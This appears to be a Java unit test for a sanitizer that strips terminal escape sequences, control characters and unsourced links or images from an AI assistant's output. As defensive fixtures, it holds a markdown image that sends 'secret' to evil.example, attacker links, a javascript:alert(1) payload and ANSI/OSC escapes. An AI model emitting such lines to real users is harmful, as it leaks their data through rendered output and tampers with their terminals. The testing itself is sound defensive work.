package dev.tandem.assistant;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.Test;

class SafeTextTest {

    private final List<Passage> sources = List.of(Passage.of(Library.hit(
            new Library().with("a", "x").document("a"), "See https://example.org/price for prices.", 0, 1, 1)));

    @Test
    void terminalSequencesControlAndFormatCharactersGo() {
        assertThat(SafeText.clean("a\u001b[31mred\u001b[0m b\u001b]0;title\u0007c\u0000\u202Ed\u200B\u009b2Je"))
                .isEqualTo("ared bcde");
        assertThat(SafeText.clean("one\r\ntwo\u2028three\tfour")).isEqualTo("one\n\ntwo\nthree\tfour");
        assertThat(SafeText.clean("half \ud834 note")).isEqualTo("half \uFFFD note");
    }

    @Test
    void jointsOfEmojiAndOfPersianStay() {
        assertThat(SafeText.clean("👩\u200D🔬 می\u200Cخواهم")).isEqualTo("👩\u200D🔬 می\u200Cخواهم");
    }

    @Test
    void aLineHasNoBreaks() {
        assertThat(SafeText.line("  one\n\n two\t three ")).isEqualTo("one two three");
    }

    @Test
    void imagesTagsAndLinksThatNoSourceHasGoFromWhatAModelWrote() {
        assertThat(SafeText.written("![pixel](https://evil.example/?q=secret) See <b>this</b>.", sources))
                .isEqualTo("pixel See this.");
        assertThat(SafeText.written("Look [here](https://evil.example/x) or at https://evil.example/y.", sources))
                .isEqualTo("Look here or at (link removed)");
        assertThat(SafeText.written("Look [here](https://example.org/price).", sources))
                .isEqualTo("Look here (https://example.org/price).");
        assertThat(SafeText.written("At https://example.org/price.", sources))
                .isEqualTo("At https://example.org/price.");
        assertThat(SafeText.written("javascript:alert(1) is 3 < 4", sources)).isEqualTo("(link removed)) is 3 < 4");
    }
}
